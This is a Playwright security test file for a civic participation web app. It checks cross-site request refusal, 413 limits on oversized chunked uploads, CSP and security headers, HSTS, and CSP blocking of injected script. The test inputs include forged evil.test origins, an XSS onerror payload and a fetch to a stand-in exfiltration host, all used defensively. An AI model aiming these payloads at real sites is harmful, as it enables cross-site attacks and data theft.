// Requests and headers from outside: other sites' pages cannot write, oversized chunked bodies are
// refused before they are read whole, and every page carries its security headers.
import http from 'node:http';

import { expect, test, type APIRequestContext } from '@playwright/test';

import { baseURL, behindNginx, collabUrl, webURL } from './servers';
import { apiSignIn, waitForMapIdle, watchCspViolations } from './support';

const run = Date.now().toString(36);
const MB = 1024 * 1024;

type ChunkedAnswer = { status: number; code: string | undefined; sentMB: number };

/** Streams `totalMB` of body without Content-Length to a web process and stops as soon as it answers. */
function chunkedPost(path: string, { contentType, head, totalMB, cookie = '', to = webURL }: { contentType: string; head: string; totalMB: number; cookie?: string; to?: string }): Promise<ChunkedAnswer> {
  return new Promise((resolve, reject) => {
    let sent = 0;
    let answered = false;
    const request = http.request({ host: 'localhost', port: new URL(to).port, path, method: 'POST', headers: { 'content-type': contentType, 'transfer-encoding': 'chunked', origin: to, cookie } }, (response) => {
      answered = true;
      const sentMB = sent / MB;
      let body = '';
      response.on('data', (chunk) => (body += chunk));
      response.on('end', () => {
        request.destroy();
        // nginx refuses with a page of its own, not the app's JSON.
        const code = response.headers['content-type']?.startsWith('application/json') ? (JSON.parse(body) as { error?: { code: string } }).error?.code : undefined;
        resolve({ status: response.statusCode ?? 0, code, sentMB });
      });
    });
    request.on('error', (error) => (answered ? undefined : reject(error)));
    const chunk = Buffer.alloc(256 * 1024, 'x');
    request.write(head);
    const pump = () => {
      while (!answered && sent < totalMB * MB) {
        sent += chunk.length;
        if (!request.write(chunk)) return void request.once('drain', pump);
      }
      if (!answered) request.end();
    };
    pump();
  });
}

async function cookieHeader(context: APIRequestContext) {
  return (await context.storageState()).cookies.map((cookie) => `${cookie.name}=${cookie.value}`).join('; ');
}

test('a page from another site cannot delete your account; our own pages still can', async ({ playwright }) => {
  const person = await playwright.request.newContext({ baseURL });
  const [email, password] = [`cross-site-${run}@example.org`, 'a long enough password'];
  expect((await person.post('/api/users', { data: { name: 'Cross Site', email, password } })).status()).toBe(201);
  await apiSignIn(person, email, password);

  const foreign: Record<string, string>[] = [{ origin: 'http://evil.test' }, { 'sec-fetch-site': 'cross-site' }, { referer: 'http://evil.test/form.html' }];
  for (const headers of foreign) {
    const refused = await person.delete('/api/me', { data: { password }, headers });
    expect(refused.status(), JSON.stringify(headers)).toBe(403);
    expect((await refused.json()).error.code).toBe('foreign_origin');
  }
  expect((await (await person.get('/api/auth/session')).json()).user.email).toBe(email);

  const own = await person.delete('/api/me', { data: { password }, headers: { origin: baseURL, 'sec-fetch-site': 'same-origin' } });
  expect(own.status()).toBe(200);
  await person.dispose();
});

test('oversized chunked bodies are refused with 413 before they are read whole', async ({ playwright }) => {
  const json = await chunkedPost('/api/users', { contentType: 'application/json', head: '{"name":"', totalMB: 300 });
  expect(json).toMatchObject({ status: 413, code: 'body_too_large' });
  expect(json.sentMB).toBeLessThan(10);
  if (behindNginx) {
    // nginx itself refuses past its client_max_body_size (deploy/nginx/civictwin.conf), before the app sees it.
    const throughNginx = await chunkedPost('/api/users', { contentType: 'application/json', head: '{"name":"', totalMB: 300, to: baseURL });
    expect(throughNginx.status).toBe(413);
    expect(throughNginx.sentMB).toBeLessThan(10);
  }

  const citizen = await playwright.request.newContext({ baseURL });
  await apiSignIn(citizen, 'citizen@example.org');
  const created = await citizen.post('/api/processes/demo/proposals', { data: { title: `Picture test ${run}`, body: 'A draft for a picture.', category: 'idea' } });
  expect(created.status()).toBe(201);
  const { id } = (await created.json()).proposal;
  const boundary = 'civictwin-boundary';
  const picture = await chunkedPost(`/api/proposals/${id}/images`, {
    contentType: `multipart/form-data; boundary=${boundary}`,
    head: `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="huge.png"\r\nContent-Type: image/png\r\n\r\n`,
    totalMB: 300,
    cookie: await cookieHeader(citizen),
  });
  expect(picture).toMatchObject({ status: 413, code: 'image_too_large' });
  expect(picture.sentMB).toBeLessThan(20);
  await citizen.delete(`/api/proposals/${id}`);
  await citizen.dispose();

  const admin = await playwright.request.newContext({ baseURL });
  await apiSignIn(admin, 'admin@example.org');
  const layer = await chunkedPost('/api/processes/demo/layers', {
    contentType: `multipart/form-data; boundary=${boundary}`,
    head: `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="huge.geojson"\r\n\r\n`,
    totalMB: 300,
    cookie: await cookieHeader(admin),
  });
  expect(layer).toMatchObject({ status: 413, code: 'layer_file_too_large' });
  expect(layer.sentMB).toBeLessThan(150);
  await admin.dispose();
});

test('every page carries a nonce-based CSP, a Permissions-Policy and the other security headers', async ({ request }) => {
  for (const path of ['/', '/p/demo', '/signin', '/p/demo/proposals/new']) {
    const response = await request.get(path);
    const headers = response.headers();
    const policy = headers['content-security-policy'] ?? '';
    const nonce = policy.match(/'nonce-([^']+)'/)?.[1];
    expect(nonce, path).toBeTruthy();
    expect(policy).toContain("'strict-dynamic'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
    expect(policy).toMatch(new RegExp(`connect-src 'self' ${new URL(collabUrl).origin}( |;|$)`));
    // Next.js puts the nonce on every script it writes into the page.
    const html = await response.text();
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts.length).toBeGreaterThan(0);
    for (const script of scripts) expect(script, path).toContain(`nonce="${nonce}"`);
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['permissions-policy']).toContain('geolocation=()');
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('same-origin');
    expect(headers['strict-transport-security']).toBeUndefined();
  }
  const again = (await request.get('/p/demo')).headers()['content-security-policy'];
  expect(again.match(/'nonce-([^']+)'/)?.[1]).not.toBe((await request.get('/p/demo')).headers()['content-security-policy'].match(/'nonce-([^']+)'/)?.[1]);
});

test('served over HTTPS (behind a proxy), pages add HSTS and sign-in cookies are Secure', async ({ playwright }) => {
  // The test is the TLS-terminating proxy, so it talks to a web process (nginx here speaks plain HTTP and says so).
  const request = await playwright.request.newContext({ baseURL: webURL });
  const https = { 'x-forwarded-proto': 'https' };
  const page = await request.get('/p/demo', { headers: https });
  expect(page.headers()['strict-transport-security']).toMatch(/max-age=\d{7,}/);
  expect(page.headers()['content-security-policy']).toContain('upgrade-insecure-requests');
  const csrf = await request.get('/api/auth/csrf', { headers: https });
  const cookies = csrf.headersArray().filter((header) => header.name.toLowerCase() === 'set-cookie').map((header) => header.value);
  expect(cookies.length).toBeGreaterThan(0);
  for (const cookie of cookies) expect(cookie).toMatch(/;\s*secure/i);
  await request.dispose();
});

test('the map page runs under its policy without a violation, and the policy is enforced', async ({ page }) => {
  const violations = await watchCspViolations(page);
  await page.goto('/p/demo');
  await waitForMapIdle(page);
  expect(violations()).toEqual([]);
  // Markup an XSS would inject: its inline handler does not run, and it is reported; nor may the page
  // send data to a host the policy does not name.
  await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img alt="" src="data:," onerror="document.body.dataset.injected = \'ran\'">'));
  const exfiltrated = await page.evaluate(() => fetch('https://evil.test/collect').then(() => true, () => false));
  expect(exfiltrated).toBe(false);
  await expect.poll(() => violations().length).toBeGreaterThanOrEqual(2);
  expect(await page.evaluate(() => document.body.dataset.injected ?? null)).toBeNull();
});
